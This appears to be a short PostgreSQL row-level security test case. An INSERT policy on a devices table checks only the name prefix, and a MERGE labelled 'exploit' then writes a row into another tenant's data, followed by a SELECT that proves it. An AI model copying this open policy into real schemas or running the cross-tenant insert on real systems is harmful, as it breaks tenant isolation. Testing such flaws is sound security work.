-- MERGE inserts where the check is open.
-- object: public.devices
-- base: partitioned
--- leak
CREATE POLICY enroll ON devices FOR INSERT WITH CHECK (name LIKE 'new%');
--- exploit
MERGE INTO devices d USING (VALUES ('{B}'::uuid, 'new of a')) AS n (tenant_id, name)
    ON d.tenant_id = n.tenant_id AND d.name = n.name
    WHEN NOT MATCHED THEN INSERT (tenant_id, name) VALUES (n.tenant_id, n.name);
--- proof
SELECT FROM devices WHERE tenant_id = '{B}' AND name = 'new of a';
